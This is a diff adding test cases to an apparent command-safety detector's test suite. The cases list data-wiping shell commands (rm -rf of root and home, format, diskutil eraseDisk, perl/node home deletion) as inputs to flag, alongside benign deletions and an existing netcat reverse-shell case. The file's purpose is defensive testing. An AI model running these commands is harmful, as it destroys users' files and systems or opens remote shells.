@@ -52,6 +52,31 @@ describe('a command line is read as its calls', () => {
     expect(reverseShells(`nohup sh -c "nc -e /bin/sh 203.0.113.9 4444" &`)).toHaveLength(1);
   });
 
+  test.each([
+    'sudo -u root rm -rf /',
+    'timeout 30 nice -n 10 rm -rf ~',
+    'cd ~ && rm -rf *',
+    'cd / ; rm -rf ./*',
+    'rm -rf ~/{*,.*}',
+    'ls -d ~/* | xargs -n 10 rm -rf',
+    'xargs rm -rf < <(find /)',
+  ])('a home or the root is emptied by %s', (line) => {
+    expect(destruction(line)).toHaveLength(1);
+  });
+
+  test.each([
+    'cd ~/projects/shop && rm -rf *',
+    'cd && rm -rf .cache',
+    'cd / && tar xf backup.tar',
+    'rm -rf ~/.{npm,cache}',
+    "find / -name '*.pyc' | xargs rm -rf",
+    'ls dist | xargs rm -rf',
+    'ls ~/* | grep -v keep | xargs rm -rf',
+    'sudo -u www-data rm -rf /var/www/cache',
+  ])('nothing but what it names goes by %s', (line) => {
+    expect(destruction(line)).toEqual([]);
+  });
+
   test('quotes inside quotes end', () => {
     fc.assert(
       fc.property(
@@ -68,6 +93,13 @@ describe('a deletion for good', () => {
   test.each([
     'gcloud sql instances delete orders --quiet',
     'gsutil -m rm -r gs://northwind-media',
+    'rm -rf /home/ada',
+    'rm -fr ~/Documents ~/Pictures',
+    'rd /s /q %USERPROFILE%',
+    'format d: /y',
+    'diskutil eraseDisk JHFS+ Blank disk2',
+    "perl -e 'use File::Path; rmtree($ENV{HOME})'",
+    `node -e "require('fs').rmSync(require('os').homedir(),{recursive:true})"`,
     'aws ec2 terminate-instances --instance-ids $(aws ec2 describe-instances --query a --output text)',
     'kubectl delete deployments --all -n payments',
     'docker volume rm $(docker volume ls -q)',
